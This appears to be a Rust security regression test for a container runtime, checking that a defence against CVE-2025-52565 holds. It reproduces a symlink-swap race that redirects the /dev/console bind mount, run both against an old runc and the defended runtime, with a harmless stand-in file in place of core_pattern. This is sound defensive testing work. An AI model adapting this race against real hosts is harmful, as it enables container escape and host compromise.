//! CVE-2025-52565: the /dev/console bind mount.
//!
//! Attack: for `terminal: true` the runtime opens /dev/ptmx, derives the
//! slave's *path* (`/dev/pts/N`), bind-mounts that path onto /dev/console
//! and opens it again as the process's stdio — before masked and read-only
//! paths are in place. A config/image that controls /dev (here: devpts
//! mounted elsewhere, and an image /dev/pts directory of symlinks) races
//! `/dev/pts/N` between the real pty (for the open) and any file it likes
//! (for the mount) — a procfs file such as core_pattern in the real attack
//! — and gets that file bind-mounted read-write at /dev/console.
//!
//! Defence: crates/init/src/console.rs `open_pty` takes the slave from
//! the master with TIOCGPTPEER (`ward_sys::tty::unlock_and_open_peer`),
//! never by path; crates/init/src/rootfs/dev.rs `bind_console` clones
//! that fd (open_tree) and moves it onto /dev/console resolved with
//! openat2(RESOLVE_IN_ROOT). Whatever the image put under /dev/pts, the
//! console is the pty that was allocated.
//!
//! The race is bounded: a host thread flips `/dev/pts/0` of the image
//! between a symlink to the real pty and one to the stand-in, with
//! renameat2(RENAME_EXCHANGE), while containers start (about 2.5 s); each
//! writes to /dev/console. Stand-in: `/core_pattern` in the read-only
//! rootfs (checked on the host). At least one container must start (a
//! runtime that fails them all was never raced), and the pty of a started
//! one must show what it wrote to /dev/console. Weakened setup: runc 1.1.5
//! (fixed in 1.2.8).

use std::time::{Duration, Instant};

use ward_tests::console::ConsoleSocket;
use ward_tests::{ctx, json, say, Bundle, Ctx};

use crate::common::*;

const ORIGINAL: &str = "ORIGINAL core_pattern stand-in\n";
const BUDGET: Duration = Duration::from_millis(3000);
const MAX_RUNS: usize = 40;

fn bundle(ctx: &Ctx) -> Bundle {
    let mut b = ctx.bundle(&[]);
    drop_dev_mounts(&mut b);
    b.mount(json!({
        "destination": "/devpts-real", "type": "devpts", "source": "devpts",
        "options": ["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"]
    }));
    let r = b.rootfs();
    write(&r.join("core_pattern"), ORIGINAL);
    // A real /dev/null, so that masking works as usual.
    let null = r.join("dev/null");
    if let Err(e) = nix::sys::stat::mknod(
        &null,
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::from_bits_truncate(0o666),
        nix::sys::stat::makedev(1, 3),
    ) {
        panic!("mknod {}: {e}", null.display());
    }
    symlink("pts/ptmx", &r.join("dev/ptmx"));
    symlink("/devpts-real/ptmx", &r.join("dev/pts/ptmx"));
    // /dev/pts/0 flips between these two (a fresh devpts instance gives
    // the container pty 0).
    symlink("/core_pattern", &r.join("dev/pts/0"));
    symlink("/devpts-real/0", &r.join("dev/pts/0-real"));
    b.terminal(true);
    b.sh("echo PWNED-52565 > /dev/console; echo done");
    b
}

/// create --console-socket, start, read the pty until the container is
/// done; returns (create's output, what the pty showed).
fn run_with_console(ctx: &Ctx, b: &Bundle, tag: &str) -> (ward_tests::Out, String) {
    b.save().expect("save config");
    let sock = ConsoleSocket::bind(&ctx.path(&format!("{tag}.sock"))).expect("console socket");
    let id = ctx.id(tag);
    let create = ctx
        .cmd(&[
            "create",
            "--console-socket",
            &sock.path.display().to_string(),
            "--bundle",
            &b.dir.display().to_string(),
            &id,
        ])
        .spawn()
        .expect("spawn create");
    let got = sock.receive(Duration::from_secs(10));
    let o = create.wait().expect("create finished");
    let Ok(got) = got else {
        return (o, String::new());
    };
    if !o.success() {
        return (o, String::new());
    }
    ctx.start(&id);
    let shown = got
        .fds
        .first()
        .map(|m| m.read_all(Duration::from_secs(10)).unwrap_or_default())
        .unwrap_or_default();
    ctx.delete_force(&id);
    (o, String::from_utf8_lossy(&shown).into_owned())
}

/// Starts containers while /dev/pts/0 flips; returns (runs, started,
/// swaps, the stand-in's content, the consoles' output of one started run).
fn race(ctx: &Ctx) -> (usize, usize, u64, String, String) {
    let b = bundle(ctx);
    let racer = Racer::start(&b.rootfs().join("dev/pts"), "0", "0-real");
    let deadline = Instant::now() + BUDGET;
    let (mut runs, mut started, mut shown) = (0, 0, String::new());
    while Instant::now() < deadline && runs < MAX_RUNS {
        runs += 1;
        let (o, pty) = run_with_console(ctx, &b, &format!("52565-{runs}"));
        if o.success() {
            started += 1;
            if shown.is_empty() {
                shown = pty;
            }
        }
        if read(&b.rootfs().join("core_pattern")) != ORIGINAL {
            break;
        }
    }
    let swaps = racer.stop();
    (
        runs,
        started,
        swaps,
        read(&b.rootfs().join("core_pattern")),
        shown,
    )
}

#[test]
fn console_bind_mount_cannot_be_redirected() {
    let ctx = ctx!("cve-2025-52565");
    let _serial = race_lock();
    if let Some(weak) = runc_ctx(&ctx, "runc") {
        let (runs, started, swaps, now, _) = race(&weak);
        let v = runc_version(&weak);
        if now != ORIGINAL {
            weakened_works(
                &ctx.name,
                &v,
                &format!(
                    "after {runs} containers the read-only rootfs file reads {now:?} \
                     (written through /dev/console)"
                ),
            );
        } else {
            weakened_skip(
                &ctx.name,
                &v,
                &format!("not reproduced in {runs} runs ({started} started, {swaps} swaps)"),
            );
        }
    }

    let (runs, started, swaps, now, shown) = race(&ctx);
    say(&format!(
        "{}: {runs} containers ({started} started) against {swaps} swaps; a console showed {:?}",
        ctx.name,
        shown.trim()
    ));
    assert!(swaps > 0, "the racer never swapped");
    assert_eq!(
        now, ORIGINAL,
        "a container wrote the file behind /dev/pts/0 through /dev/console"
    );
    // A runtime that fails every container is never raced: containers must
    // start, and the console of a started one is the real pty, which showed
    // the write.
    assert!(
        started > 0,
        "none of the {runs} containers started: the race was never run"
    );
    assert!(
        shown.contains("PWNED-52565"),
        "the console of a started container is not the pty: the pty showed {shown:?}"
    );
}
